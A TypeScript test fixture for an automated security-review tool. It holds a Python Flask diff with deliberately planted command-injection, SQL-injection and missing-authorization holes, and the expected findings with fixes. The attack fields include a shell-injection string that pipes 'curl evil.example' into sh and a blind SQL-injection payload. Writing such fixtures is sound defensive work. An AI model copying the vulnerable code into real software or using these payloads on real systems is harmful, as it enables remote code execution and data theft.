import type { ChangeSet } from "../../src/domain/change-set.ts";
import type { Claim, Finding, UnnamedFinding } from "../../src/domain/finding.ts";
import { groundClaims } from "../../src/review/claims/ground-claims.ts";
import { parseDiff } from "../../src/review/diff/parse-diff.ts";
import { nameFindings } from "../../src/review/findings/name-findings.ts";

const diff = `diff --git a/api/reports.py b/api/reports.py
index 3f1c2aa..9b04d1e 100644
--- a/api/reports.py
+++ b/api/reports.py
@@ -1,16 +1,28 @@
+import os
+import subprocess
 from flask import Blueprint, abort, request, send_file

-from .auth import current_user, require_role
+from .auth import current_user
 from .database import connect

 reports = Blueprint("reports", __name__)
+ARCHIVE = "/srv/reports"


 @reports.get("/reports/<int:report_id>")
-@require_role("analyst")
 def show_report(report_id):
     with connect() as connection:
-        row = connection.execute("SELECT * FROM reports WHERE id = ?", [report_id]).fetchone()
+        order = request.args.get("order", "created")
+        row = connection.execute(
+            f"SELECT * FROM reports WHERE id = {report_id} ORDER BY {order}"
+        ).fetchone()
     if row is None:
         abort(404)
     return dict(row)
+
+
+@reports.get("/reports/export")
+def export_report():
+    name = request.args["name"]
+    subprocess.run(f"tar -czf /tmp/{name}.tgz {ARCHIVE}/{name}", shell=True, check=True)
+    return send_file(os.path.join("/tmp", name + ".tgz"))
`;

/** A small change that opens three holes, as git would show it. */
export const realChange: ChangeSet = {
  base: null,
  head: null,
  label: "main..export",
  files: parseDiff(diff).files,
};

const blank: Claim = {
  kind: "defect",
  file: 0,
  side: "RIGHT",
  lines: [],
  quote: null,
  symbols: [],
  title: "",
  cwe: null,
  category: null,
  severity: null,
  explanation: "",
  attack: null,
  fix: null,
  rule: null,
  unit: "u1",
};

const claims: readonly Claim[] = [
  {
    ...blank,
    quote: 'subprocess.run(f"tar -czf /tmp/{name}.tgz {ARCHIVE}/{name}", shell=True, check=True)',
    title: "Shell command built from the `name` parameter",
    cwe: "CWE-78",
    severity: "critical",
    explanation:
      "`name` comes from the query string and is put into a command that a shell interprets. Nothing restricts its characters.",
    attack:
      "A visitor requests /reports/export?name=x;curl evil.example|sh and runs commands as the service.",
    fix: 'subprocess.run(\n    ["tar", "-czf", target, "-C", ARCHIVE, "--", name],\n    check=True,\n)',
  },
  {
    ...blank,
    quote: 'f"SELECT * FROM reports WHERE id = {report_id} ORDER BY {order}"',
    title: "Sort order from the request becomes part of the SQL text",
    cwe: "CWE-89",
    severity: "high",
    explanation:
      "`order` is read from the query string and appended to the statement. A parameter cannot stand there, so it needs a list of allowed columns.",
    attack:
      "A visitor sends order=(CASE WHEN (SELECT …) THEN id ELSE created END) and reads any table bit by bit.",
    fix: 'Look the column up in a fixed set: `ORDERS = {"created": "created", "title": "title"}`, and answer 400 for anything else.',
  },
  {
    ...blank,
    side: "LEFT",
    quote: '@require_role("analyst")',
    title: "Role check removed from the report endpoint",
    cwe: "CWE-862",
    severity: "high",
    explanation:
      "The decorator was the only authorization in front of `show_report`; no other caller checks the role.",
    attack: "Any signed-in user reads every report by counting up its number.",
    fix: 'Put `@require_role("analyst")` back above `show_report`, and above `export_report` too.',
  },
];

/** What a review of it finds; the places are looked up in the diff. */
export const realFindings: readonly Finding[] = nameFindings(
  groundClaims(claims, realChange, [], { isPlaceholder: () => false, mask: (text) => text }).candidates.map(
    ({ claim, place }): UnnamedFinding => ({
      title: claim.title,
      cwe: claim.cwe,
      severity: claim.severity ?? "low",
      confidence: "confirmed",
      source: "model",
      rule: null,
      place,
      explanation: claim.explanation,
      attack: claim.attack,
      fix: claim.fix,
    }),
  ),
);
